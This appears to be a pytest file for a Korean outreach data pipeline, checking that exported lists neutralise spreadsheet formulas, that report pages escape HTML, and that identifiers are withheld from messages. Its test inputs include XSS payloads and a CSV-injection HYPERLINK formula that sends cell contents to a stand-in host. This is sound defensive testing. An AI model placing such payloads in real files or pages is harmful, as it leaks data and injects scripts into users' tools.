"""Text written for people: no live formula, no identifier echoed, no data value unescaped.

- The shared room (``pipeline.textsafe``): formula neutralisation and its inverse, and the
  decision whether a value may be echoed.
- A copy of the committed sample whose 읍면동 names and household keys start with ``=``, ``+``,
  ``-`` or ``@`` and whose region names hold HTML, run through validate, ingest, features,
  score and report (the copied scored sample's champion scores it): the CSV and XLSX lists hold
  no live formula, the report pages escape the names, and a list sent back imports.
- A returned list with formulas and identifiers (resident number, phone, names) in the
  household-key column and formulas in notes: neither the terminal nor the rejection file echoes
  them, and both name the row and the column.
- A crisis code holding HTML: validation's Data Docs and summary page show it escaped.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from _cli_helpers import LIST_KEYS as KEYS
from _cli_helpers import get_cell as _get
from _cli_helpers import run_captured as _run
from _cli_helpers import set_cell as _set
from _validate_helpers import config_for, copy_sample, latest_run_dir, rewrite, run_cli
from conftest import ScoredSample, copy_outputs, write_config_file

from pipeline.config import Config

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
# The four 읍면동 of 시군구 1111000000 get names a spreadsheet would run.
FORMULA_NAMES = {
    "1111051000": '=HYPERLINK("http://example.invalid/?leak="&A2,"열기")',
    "1111051300": "+1+2",
    "1111051600": "-1+2",
    "1111051900": "@SUM(1,2)",
}
HTML_SIGUNGU = ("1111000000", IMG)  # and the first 읍면동 of 1112000000 is named SCRIPT


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))
    return path


# --- the shared room -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+82 10 1234 5678", "'+82 10 1234 5678"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=1+2", "''=1+2"),  # undone exactly: read back as "'=1+2"
        ("-3.5", "-3.5"),  # a plain number is no formula
        ("+12", "+12"),
        ("북울동", "북울동"),
        ("H0000000001", "H0000000001"),
        ("it's", "it's"),
        ("", ""),
    ],
)
def test_spreadsheet_text_neutralises_formulas_and_is_undone_on_reading(value, written):
    from pipeline.textsafe import from_spreadsheet_cell, spreadsheet_cell, spreadsheet_text

    assert spreadsheet_text(value) == written
    assert spreadsheet_cell(value) == written
    assert from_spreadsheet_cell(written) == value


def test_numbers_stay_numbers_and_missing_values_are_empty():
    import numpy as np

    from pipeline.textsafe import spreadsheet_cell, spreadsheet_text

    for number in (3, -2.5, np.int64(4), np.float64(-1.5)):
        assert spreadsheet_cell(number) is number
    for missing in (None, float("nan"), pd.NA):
        assert spreadsheet_text(missing) == ""


@pytest.mark.parametrize(
    "value",
    [
        "900101-1234567",
        "9001011234567",
        "900101-1******",
        "010-9876-5432",
        "01098765432",
        "1098765432",  # the leading 0 a spreadsheet dropped
        "+82 10-9876-5432",
        "02-123-4567",
        "김순자",
        "김 순자",
        "Kim Soonja",
        "KIM SOON JA",
        "Soonja",  # a lone word may be a name
        "=1+1",
        "-2+3",
        "@SUM(A1)",
        "H0000000001 김순자",
        "a" * 30 + "1",
    ],
)
def test_identifiers_formulas_and_free_text_are_withheld(value):
    from pipeline.textsafe import WITHHELD, shown_or_withheld, shown_value

    assert shown_value(value) is None
    assert shown_or_withheld(value) == WITHHELD


@pytest.mark.parametrize("value", ["H0000000001", "1111051000", "2026-10", "row-12", "a1_b.c/d:e"])
def test_plain_codes_are_shown(value):
    from pipeline.textsafe import looks_like_name, looks_like_phone, shown_value

    assert shown_value(value) == value
    assert not looks_like_phone(value) and not looks_like_name(value)


def test_kinds_of_identifier_are_recognised():
    from pipeline.textsafe import looks_like_name, looks_like_phone, looks_like_resident_number

    assert looks_like_resident_number("900101-1234567")
    assert looks_like_resident_number("메모 900101 1234567")
    assert not looks_like_resident_number("H0000000001")
    assert looks_like_phone("010.9876.5432") and looks_like_phone("(02) 123-4567")
    assert not looks_like_phone("1111051000")  # a 읍면동 code
    assert looks_like_name("김순자") and looks_like_name("Kim Soon-ja")
    assert not looks_like_name("in_progress")


# --- validation's HTML pages ---------------------------------------------------------------------


def test_a_crisis_code_holding_html_is_escaped_in_data_docs_and_summary(tmp_path):
    raw = copy_sample(tmp_path / "raw")

    def change(frame: pd.DataFrame) -> pd.DataFrame:
        frame = frame.copy()
        frame.loc[frame.index[:3], "indicator_code"] = IMG
        return frame

    rewrite(raw, "crisis_events", change, partition="1111000000")
    config, config_file = config_for(tmp_path, raw, validation={"data_docs": True})
    assert run_cli(config_file, "validate") == 0  # the rows are set aside (quarantine)
    run_dir = latest_run_dir(config)
    pages = sorted((run_dir / "data_docs").rglob("*.html"))
    assert pages, "Data Docs were not built"
    shown_escaped = False
    for page in [*pages, run_dir / "summary.html"]:
        text = page.read_text(encoding="utf-8")
        assert "<img src=x" not in text and "onerror=alert(1)>" not in text, page
        shown_escaped |= "&lt;img src=x onerror=alert(1)&gt;" in text
    assert shown_escaped, "the unexpected code is shown (escaped) on the result page"
    # the JSON beside the pages keeps the value as it was
    assert IMG in (run_dir / "gx_results.json").read_text(encoding="utf-8")


# --- a hostile copy of the sample through score and report -------------------------------------


@dataclass(frozen=True)
class Hostile:
    config: Config
    config_file: Path
    round_dir: Path
    as_of: str
    key_prefix: dict[str, str]  # original household key -> the key with its trigger
    html_emd: str
    outputs: dict[str, tuple[int, str, str]]


def _trigger_key(key: str) -> str:
    return "=+-@"[int(key[-1]) % 4] + key


@pytest.fixture(scope="module")
def hostile(scored_sample: ScoredSample, tmp_path_factory) -> Hostile:
    root = tmp_path_factory.mktemp("hostile")
    copy = copy_outputs(scored_sample, root)
    raw = copy_sample(root / "raw")
    regions = pd.read_parquet(raw / "regions.parquet")
    html_emd = str(
        regions.loc[
            (regions["level"] == "emd") & (regions["sigungu_code"] == "1112000000"),
            "region_code",
        ].iloc[0]
    )
    names = {**FORMULA_NAMES, HTML_SIGUNGU[0]: HTML_SIGUNGU[1], html_emd: SCRIPT}

    def rename(frame: pd.DataFrame) -> pd.DataFrame:
        frame = frame.copy()
        frame["name"] = [
            names.get(c, n) for c, n in zip(frame["region_code"], frame["name"], strict=True)
        ]
        return frame

    rewrite(raw, "regions", rename)
    keys: dict[str, str] = {}

    def prefix(frame: pd.DataFrame) -> pd.DataFrame:
        frame = frame.copy()
        new = [_trigger_key(k) for k in frame["household_key"]]
        keys.update(zip(frame["household_key"], new, strict=True))
        frame["household_key"] = new
        return frame

    for table in ("households", "household_members", "outreach_outcomes"):
        rewrite(raw, table, prefix)
    config = copy.config.with_overrides(paths={"raw_input": str(raw)})
    config_file = write_config_file(config, root / "config.yaml")
    outputs = {}
    for stage in (("validate",), ("ingest",), ("features",), ("score", "--force"), ("report",)):
        outputs[stage[0]] = result = _run(config_file, *stage)
        assert result[0] == 0, f"{stage}: {result[2][-3000:]}"
    return Hostile(config, config_file, copy.round_dir, copy.as_of, keys, html_emd, outputs)


def test_lists_hold_no_live_formula_and_keep_the_text(hostile):
    lists = sorted((hostile.round_dir / "lists").rglob("*.csv"))
    assert lists
    names_seen, keys_seen = set(), 0
    for path in lists:
        _, *rows = _csv_rows(path)
        for row in rows:
            for cell in row:
                assert not cell.startswith(TRIGGERS), f"{path.name}: live formula {cell!r}"
            key = _get(row, "household_key")
            assert key[:1] == "'" and key[1:2] in "=+-@", key  # written as text
            keys_seen += 1
            names_seen.add(_get(row, "emd_name"))
    assert keys_seen > 0
    assert {"'" + n for n in FORMULA_NAMES.values()} <= names_seen


def test_xlsx_lists_hold_strings_not_formulas(hostile):
    from openpyxl import load_workbook

    books = sorted((hostile.round_dir / "lists").rglob("*.xlsx"))
    assert books
    for path in books[:12]:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in archive.read(name).decode("utf-8"), (path.name, name)
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(TRIGGERS), (path.name, cell.value)
    sigungu = next(p for p in books if p.name == "sigungu_1111000000.xlsx")
    sheet = load_workbook(sigungu).worksheets[0]
    names = {sheet.cell(r, KEYS.index("emd_name") + 1).value for r in range(2, sheet.max_row + 1)}
    assert {"'" + n for n in FORMULA_NAMES.values()} <= names


def test_report_pages_escape_region_names(hostile):
    report = hostile.round_dir / "report"
    pages = sorted(report.rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<img src=x" not in text and "<script>alert(2)" not in text, page
    index = (report / "index.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in index
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in index
    emd = (report / "emd" / f"{hostile.html_emd}.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in emd


def _light(source: Config, round_dir: Path, as_of: str, tmp_path: Path) -> tuple[Path, Path]:
    """A private output root with the round and the staged households; its config file."""
    out = tmp_path / "outputs"
    shutil.copytree(round_dir, out / "rounds" / as_of)
    staged = source.paths.output_root / "staged" / "households"
    shutil.copytree(staged, out / "staged" / "households")
    config = source.with_overrides(paths={"output_root": str(out)})
    return write_config_file(config, tmp_path / "config.yaml"), out / "rounds" / as_of


def _first_list(round_dir: Path, least: int) -> tuple[list[str], list[list[str]]]:
    for path in sorted((round_dir / "lists").glob("*/emd_*.csv")):
        head, *rows = _csv_rows(path)
        if len(rows) >= least:
            return head, rows
    raise AssertionError(f"no list of {least} rows")


def test_a_neutralised_list_sent_back_imports(hostile, tmp_path):
    config_file, round_dir = _light(hostile.config, hostile.round_dir, hostile.as_of, tmp_path)
    head, rows = _first_list(round_dir, 4)
    rows = [_set(r, outcome_code="in_progress") if i < 3 else r for i, r in enumerate(rows)]
    path = _write_csv(tmp_path / "back.csv", [head, *rows])
    code, out, err = _run(config_file, "outcomes", "import", str(path))
    assert code == 0, err
    assert "3 accepted" in out and "0 rejected" in out
    stored = pd.read_parquet(next((tmp_path / "outputs" / "outcomes").rglob("outcomes.parquet")))
    originals = {_get(r, "household_key")[1:] for r in rows[:3]}  # the apostrophe off
    assert set(stored["household_key"]) == originals
    assert originals <= set(hostile.key_prefix.values())


# --- a returned list with formulas and identifiers ---------------------------------------------

NOTE_FORMULA = '=HYPERLINK("http://example.invalid/note","메모")'
TYPED_KEYS = {
    "900101-1234567": "resident number",
    "010-9876-5432": "phone",
    "김순자": "Hangul name",
    "Kim Soonja": "Latin name",
    '=HYPERLINK("http://example.invalid/key","x")': "formula",
    "-2+3": "formula",
    "-A1": "formula",  # a plain code but for its minus: a live reference in a spreadsheet
    "@SUM(1,2)": "formula",
}


def test_returned_list_identifiers_and_formulas_are_never_echoed(scored_sample, tmp_path):
    config_file, round_dir = _light(
        scored_sample.config, scored_sample.round_dir, scored_sample.as_of, tmp_path
    )
    head, rows = _first_list(round_dir, len(TYPED_KEYS) + 3)
    filled = [_set(r, outcome_code="in_progress", contact_date="", note=NOTE_FORMULA) for r in rows]
    for i, typed in enumerate(TYPED_KEYS):
        filled[i] = _set(filled[i], household_key=typed)
    n = len(TYPED_KEYS)
    filled[n] = _set(filled[n], outcome_code="visited")  # a rejected row with a formula note
    path = _write_csv(tmp_path / "returned.csv", [head, *filled])

    code, out, err = _run(config_file, "outcomes", "import", str(path))
    assert code == 0, err
    reports = sorted((tmp_path / "outputs" / "outcomes").rglob("rejected/*.csv"))
    assert len(reports) == 1
    report_text = reports[0].read_bytes().decode("utf-8-sig")
    for value in [*TYPED_KEYS, NOTE_FORMULA, "example.invalid", "1234567"]:
        assert value not in out and value not in err, f"terminal echoes {value!r}"
        assert value not in report_text, f"rejection file echoes {value!r}"
    header, *lines = _csv_rows(reports[0])  # Korean: 행 번호, the list's headers, 사유
    assert header[0] == "행 번호" and header[-1] == "사유" and "메모(제출 시 제외)" not in header
    key = header.index("가구 관리번호")
    for line in lines:
        for cell in line:
            assert not cell.startswith(TRIGGERS), f"live formula {cell!r} in the rejection file"
    by_row = {int(line[0]): line for line in lines}
    for i in range(n):  # file row = list row + 2 (the header is row 1)
        line = by_row[i + 2]
        assert line[-1].startswith("[가구 관리번호]") and line[key] == "(표시 안 함)", line
        assert f"row {i + 2} household_key (not shown):" in out
    assert by_row[n + 2][-1].startswith("[결과 코드]")


def test_an_identifier_in_the_round_column_is_named_by_row_and_column_not_shown(
    scored_sample, tmp_path
):
    config_file, round_dir = _light(
        scored_sample.config, scored_sample.round_dir, scored_sample.as_of, tmp_path
    )
    head, rows = _first_list(round_dir, 3)
    rows = [_set(r, outcome_code="in_progress") for r in rows]
    rows[1] = _set(rows[1], round="900101-1234567")
    path = _write_csv(tmp_path / "returned.csv", [head, *rows])
    code, out, err = _run(config_file, "outcomes", "import", str(path))
    assert code == 1
    assert "900101" not in out + err and "1234567" not in out + err
    assert "row 3, column 회차 / round" in err
